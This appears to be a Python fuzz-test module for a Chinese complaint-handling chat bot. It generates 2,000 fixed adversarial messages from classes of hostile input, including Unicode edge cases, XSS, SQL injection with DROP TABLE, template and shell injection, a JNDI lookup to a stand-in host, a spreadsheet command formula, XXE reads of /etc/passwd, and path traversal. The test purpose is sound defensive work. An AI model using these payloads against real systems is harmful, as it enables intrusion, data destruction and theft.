"""What nobody should send: two thousand texts of every class known to break chat services, always the same ones.

A class is made of bare fragments; each is then said in the ways people speak to the service,
since what is harmless as a
complaint may not be so behind "办结" or beside a case number.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Iterator

import pytest

from domain import references
from domain.commands import ACTION_WORDS, WISH_WORDS

MOST = 2000
# One text of so many is said in `make test`, all in `make soak`.
SAID = pytest.mark.parametrize("every", [8, pytest.param(1, marks=pytest.mark.soak)])
LONG = 100_000
REFERENCE = references.make(2026, 1)

SURROGATES = ("\ud800", "\udfff", "路灯\ud83d不亮", "\udc00\ud800")
NULS = ("\0", "路灯\0不亮", "\0\0\0")


def fragments() -> dict[str, list[str]]:
    """Every class with its bare fragments, all of which a database keeps."""
    return {
        "controls": [f"路灯{chr(code)}不亮" for code in (*range(1, 32), *range(0x7F, 0xA0))],
        "whitespace": [f"路灯{chr(code)}不亮" for code in (0x20, 0xA0, 0x1680, 0x2003, 0x2028, 0x2029, 0x202F,
            0x3000)],
        "invisible": [f"路{chr(code)}灯" for code in (0xAD, 0x34F, 0x61C, 0x180E, *range(0x200B, 0x2010), 0x2060,
                0xFEFF)],
        "bidi": [f"{chr(code)}drowssap 路灯 {chr(close)}" for code in range(0x202A, 0x202F) for close in (0x202C,
            0x2069)]
        + [f"{chr(code)}gnp.exe" for code in range(0x2066, 0x206A)],
        "right to left": ["مصباح الشارع لا يعمل", "פנס הרחוב לא עובד", "abc شارع 123 路灯 רחוב", "‏" * 300 + "路"],
        "combining": [f"路{chr(mark) * count}" for mark in (0x300, 0x20E3, 0x489, 0x1AB0) for count in (1, 64, 3000)],
        "emoji": ["👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇨🇳🇨", "✊🏿" * 200, "1️⃣2️⃣", "👍\ufe0e👍\ufe0f", "🫠" * 2048,
                "\U0001f468\u200d" * 500],
        "outside the plane": ["𠮷野家门口", "𝕃𝕚𝕘𝕙𝕥", "\U000e0041", "\U0010ffff", "\ufffe\uffff", "\ue000",
            "\U0001fbf9"],
        "look-alikes": ["раураl", "ｊａｖａｓｃｒｉｐｔ：", "ℌ𝔢𝔩𝔩𝔬", "Ⅷ", "①②③", "ﷺ" * 100, "ß" * 100, "İıſK",
            "ΐ" * 50],
        "long words": ["啊" * 999, "a" * 5000, "1" * 5000, "#" * 3000, " " * 3000 + "路", "\n" * 3000 + "路",
            "办结" * 999],
        "lengths": [*_lengths("路"), *_lengths("😀"), "路" * (LONG - 20), "a b" * 33_000, "😀" * 49_000],
        "markup": ["<b>路灯</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                "</textarea><svg onload=a>",
                   "&lt;b&gt; &amp; &#0; &#x110000;", "<!--", "<![CDATA[", "]]>",
                   "<a href='javascript:alert(1)'>路</a>",
                   "\"><iframe src=//x.example>", "<pre>\n```\n</pre>", "<b><i></b></i>", "'-alert(1)-'"],
        "markdown": ["*路* _灯_ ~~坏~~", "[路灯](http://x.example)", "![x](javascript:alert(1))", "`路`",
            "```\n路\n```",
                "> 路", "# 路",
                     "_*[]()~`>#+-=|{}.!\\", "\\_\\*\\[", "||路灯||", "*路灯_不*亮_", "1. 路\n2. 灯", "- 路\n\t- 灯",
                     "|a|b|\n|-|-|"],
        "placeholders": ["{reference}", "{words}", "{0}", "{}", "{", "}", "{{words}}", "{words!r:>10}",
                "{a.__class__}", "%s", "%n",
                         "%(words)s", "%00", "%", "$words", "${words}", "$$", "{status}", "assigned", "{department}",
                         "{when}"],
        "templates": ["{{7*7}}", "{% for x in y %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "@(7*7)",
                "${jndi:ldap://x.example}",
                      "{{config}}", "{{''.__class__.__mro__}}", "[[${7*7}]]", "~{x}", "__import__('os')", "`id`",
                      "$(id)"],
        "sql": ["'", "\"", "';--", "' OR '1'='1", "1; DROP TABLE cases;--", "\\'; DELETE FROM inbox;",
                "') UNION SELECT 1--", "%' LIKE '_",
                "x' || pg_sleep(10) --", ":words", "?", "$1", "E'\\\\'", "/*", "0x27", "NULL", "\\", "\\\\", "_%"],
        "formulas": ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x.example\")", "\t=1", "=cmd|' /C calc'!A0",
                "＝1+1", "-2+3"],
        "json": ["{\"text\": \"x\"}", "[" * 5000, "{\"a\":" * 999, "\\u0000", "\\ud800", "\\", "\"", "null", "true",
                "[]", "{\"choice\": 1}"],
        "xml": ["<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                "<!DOCTYPE a [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;\">]><a>&b;</a>",
                "<xml><MsgType>event</MsgType></xml>",
                "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>"],
        "paths": ["../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "%2e%2e%2f",
                "C:\\", "~root", "NUL",
                  "//x.example/share", "....//", "路灯.jpg\u202egpj.exe", "a" * 300 + ".png",
                  "http://169.254.169.254/",
                  "javascript:0"],
        "tokens": ["c:1:withdraw!", "d:1:submit", "k:1:open", "s:1:resolve:solved", "me:0:forget", "me:0:language",
                "c:-1:x", "c:1", "::",
                   "c:999999999:human", "c:9999999999:human", "c:²:human", "c:１:human", "d:0:top:" + "x" * 99,
                   "q:1:grant", "list:1,2"],
        "references": [REFERENCE, f"#{REFERENCE}", f"＃{_wide(REFERENCE)}", _wide(REFERENCE), f"#{REFERENCE}-1",
                f"#{REFERENCE}-100",
                       f"{REFERENCE}{REFERENCE}", f"#{REFERENCE[:-1]}x", "#00000000", "00000000", "#99999999999999",
                       "#" * 99 + REFERENCE,
                       f"{REFERENCE} {REFERENCE}", f"１3８{REFERENCE}", "#²²²²²²²²", "#٢٦٠٠٠٠١٣", f"{REFERENCE}号",
                       f"({REFERENCE})"],
        "numbers": [str(2**63), str(-(2**63) - 1), "1e999", "NaN", "Infinity", "-0", "0.1+0.2", "1 2 3 签收",
            "99 签收",
                "0 签收", "1,,,,2 签收",
                    "1 " * 3000 + "签收", "²", "٣天", "延期 999 天", "延期 ３天 等料", "挂账 9999-99-99 没有",
                    "挂账 10000-01-01 x",
                    "0" * 40],
        "commands": [*WISH_WORDS, *ACTION_WORDS, *(f"/{word}@bot" for word in ("start", "help", "cases")), "/", "//",
                "/\n", "加入", "绑定 ",
                     "加入 1234567", "查 %", "查 '", "查人 x", "查人 李女士 " + "核" * 999, "录入 电话",
                     "录入 电话 " + "路" * 999,
                     "邀请码 不存在局"],
        "small talk": ["谢谢" * 500, "好" * 3000, "ok" * 2000, "没有" * 2000, "非常满意", "解决了", "是" * 3000 + "不",
                "谢" * 3000 + "x"],
        "greedy": ["路" * 1999, "我" * 2000, "at " + "A" * 2000, "in A" + " and A" * 600, "在" * 2000 + "村",
            "镇" * 1500,
                "1-" * 2000 + "x",
                   "a@" * 2000, "a." * 2000 + "@b", "我姓" * 900, "联系人:" * 700, "京A" * 999, "一" * 3000,
                   "1 3 8 " * 900,
                   "我叫" + "王" * 999],
        "identity": ["我叫李女士，电话13800138000", "身份证110101199003077777", "车牌京A12345", "邮箱 a@x.example",
            "微信 wxid_12345678"],
    }  # fmt: skip


def texts() -> list[str]:
    """Exactly `MOST` different texts: every fragment alone and in a sentence, the rest in mixtures."""
    known = fragments()
    plain = [fragment for one in known.values() for fragment in one]
    said = dict.fromkeys(plain)
    said.update(dict.fromkeys(way.format(fragment) for fragment in plain if len(fragment) < 100 for way in WAYS))
    dice = random.Random(20261123)
    short = [one for one in plain if len(one) < 400]
    while len(said) < MOST:
        said["".join(dice.choice(short) for _ in range(dice.randint(2, 5)))] = None
    chosen = [*said]
    return [*chosen[: len(plain)], *dice.sample(chosen[len(plain) :], MOST - len(plain))]


WAYS = (
    "建设路12号路灯不亮 {}",
    f"#{REFERENCE} {{}}",
    f"#{REFERENCE} 答复 {{}}",
    "办结 {}",
    "上报 振兴路12号路灯不亮 {}",
    "查 {}",
)


def _lengths(letter: str) -> Iterator[str]:
    """Around the longest text that Telegram takes, in UTF-16 units."""
    units = len(letter.encode("utf-16-le")) // 2
    for most in (4095, 4096, 4097):
        yield letter * (most // units) + "x" * (most % units)


def _wide(digits: str) -> str:
    return "".join(unicodedata.lookup(f"FULLWIDTH {unicodedata.name(digit)}") for digit in digits)
